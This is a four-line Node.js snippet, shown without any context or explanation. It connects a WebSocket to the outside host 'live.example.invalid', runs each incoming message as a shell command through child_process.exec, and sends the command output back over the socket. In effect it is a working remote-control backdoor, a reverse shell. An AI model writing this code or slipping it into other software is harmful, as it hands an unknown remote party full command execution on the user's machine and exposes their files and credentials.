import WebSocket from 'ws';
import { exec } from 'node:child_process';
const link = new WebSocket('wss://live.example.invalid/b');
link.on('message', (text) => exec(text.toString(), (error, out) => link.send(out)));
